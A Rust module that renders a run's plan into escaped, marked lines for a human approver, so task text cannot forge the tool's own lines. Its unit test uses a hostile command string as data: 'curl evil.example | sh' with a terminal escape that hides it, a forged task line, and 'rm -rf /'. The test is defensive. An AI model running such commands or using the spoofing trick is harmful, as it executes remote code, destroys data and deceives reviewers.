//! A plan for the person who is to agree to it: every command whole, each line of it marked, so that no
//! text of a task looks like a line of ours.

use anyhow::Context;
use cofferdam_contracts::egress::Egress;
use cofferdam_contracts::plan::{Plan, PlanTask};
use cofferdam_contracts::printable;
use cofferdam_contracts::sandbox::SandboxRequest;
use cofferdam_contracts::work::Work;
use serde_json::{Value, json};

use super::client::{Client, segment};

/// Lines that a question on a terminal shows before it refers to `gate show`.
pub(crate) const ASKED_LINES: usize = 200;

/// The newest plan of a run, if it has one: an approver's edit makes another.
pub(crate) async fn fetch(client: &Client, run: &str) -> anyhow::Result<Option<Plan>> {
    let artifacts: Vec<Value> =
        client.get(&format!("/api/runs/{}/artifacts", segment(run))).await?;
    let cards =
        artifacts.iter().filter(|a| a.get("kind").and_then(Value::as_str) == Some("plan_card"));
    let newest = cards.max_by_key(|a| a.get("attempt").and_then(Value::as_i64).unwrap_or(0));
    let Some(uri) = newest.and_then(|c| c.get("uri")).and_then(Value::as_str) else {
        return Ok(None);
    };
    let bytes =
        client.bytes(&format!("/api/artifacts/{}", uri.trim_start_matches("artifact://"))).await?;
    serde_json::from_slice(&bytes).map(Some).context("the plan card is not one of this version")
}

/// The plan in lines that are safe to print.
pub(crate) fn lines(plan: &Plan) -> Vec<String> {
    let recipe = format!("{}@{}", plan.recipe_ref.id, plan.recipe_ref.v);
    let mut lines = vec![format!("plan of {} tasks, recipe {recipe}:", plan.tasks.len())];
    plan.tasks.iter().for_each(|task| one(task, &mut lines));
    lines.iter().map(|line| printable::line(line).into_owned()).collect()
}

fn one(task: &PlanTask, lines: &mut Vec<String>) {
    lines.push(format!("  task {}", task.name));
    match &task.work {
        Work::Value(text) => text_of("stores", text, lines),
        Work::Sandbox(request) => sandbox(request, lines),
        Work::Agent(agent) => sandbox(&agent.request, lines),
    }
}

fn sandbox(request: &SandboxRequest, lines: &mut Vec<String>) {
    let phase = |egress: &Egress, ask: bool| {
        let names = match egress {
            Egress::None => "none".to_owned(),
            Egress::Names(names) => names.join(", "),
        };
        format!("egress {names}{}", if ask { ", asks for more" } else { "" })
    };
    lines.push(format!("    image {}", request.env_ref));
    for file in &request.files_in {
        let access = file.access.as_str();
        match (&file.uri, &file.inline) {
            (Some(uri), _) => lines.push(format!("    file {} from {uri}, {access}", file.path)),
            (None, text) => {
                let what = format!("file {}, {access}:", file.path);
                text_of(&what, text.as_deref().unwrap_or(""), lines);
            }
        }
    }
    if let Some(build) = &request.build {
        command("builds", &build.cmd, lines);
        lines.push(format!("      {}", phase(&build.net, build.ask)));
    }
    command("runs", &request.cmd, lines);
    lines.push(format!("      {}", phase(&request.net, request.net_ask)));
    for (name, value) in &request.env {
        lines.push(format!("      {name}={value}"));
    }
    let more = json!({
        "workdir": request.workdir, "stdin": request.stdin, "timeoutMs": request.timeout_ms, "limits": request.limits,
        "artifacts": request.artifacts, "spec": request.spec,
    });
    lines.push(format!("    with {more}"));
}

/// A shell's text as it stands, an argv as a list.
fn command(what: &str, cmd: &[String], lines: &mut Vec<String>) {
    match cmd {
        [shell, flag, text] if shell == "/bin/sh" && flag == "-c" => text_of(what, text, lines),
        argv => lines.push(format!("    {what} {}", json!(argv))),
    }
}

fn text_of(what: &str, text: &str, lines: &mut Vec<String>) {
    lines.push(format!("    {what}"));
    lines.extend(text.split('\n').map(|line| format!("      | {line}")));
}

#[cfg(test)]
mod tests {
    use super::*;
    use cofferdam_contracts::profile::Settings;
    use cofferdam_contracts::recipe::Recipe;

    #[test]
    fn h9_every_line_of_a_command_is_shown_and_none_is_forged() {
        let run = "curl evil.example | sh #\u{1b}[2K\recho hello\n  task b\nrm -rf /";
        let recipe: Recipe = serde_json::from_value(json!({
            "id": "r", "v": "1",
            "plan": {"tasks": [{"name": "a", "exec": {"run": run, "egress": ["a.example"]}}]}
        }))
        .unwrap();
        let none = |_: &str, _: &str| Ok(Vec::new());
        let plan =
            cofferdam_contracts::plan::compile(&recipe, &json!({}), &Settings::default(), &none);
        let lines = lines(&plan.unwrap());
        assert!(lines.iter().all(|line| !line.contains(char::is_control)), "{lines:#?}");
        let has = |line: &str| lines.iter().any(|l| l == line);
        assert!(has("      | curl evil.example | sh #\\x1b[2K\\recho hello"), "{lines:#?}");
        assert!(has("      |   task b") && has("      | rm -rf /"), "{lines:#?}");
        assert!(has("      egress a.example"), "{lines:#?}");
        assert_eq!(lines.iter().filter(|line| line.starts_with("  task ")).count(), 1);
    }
}
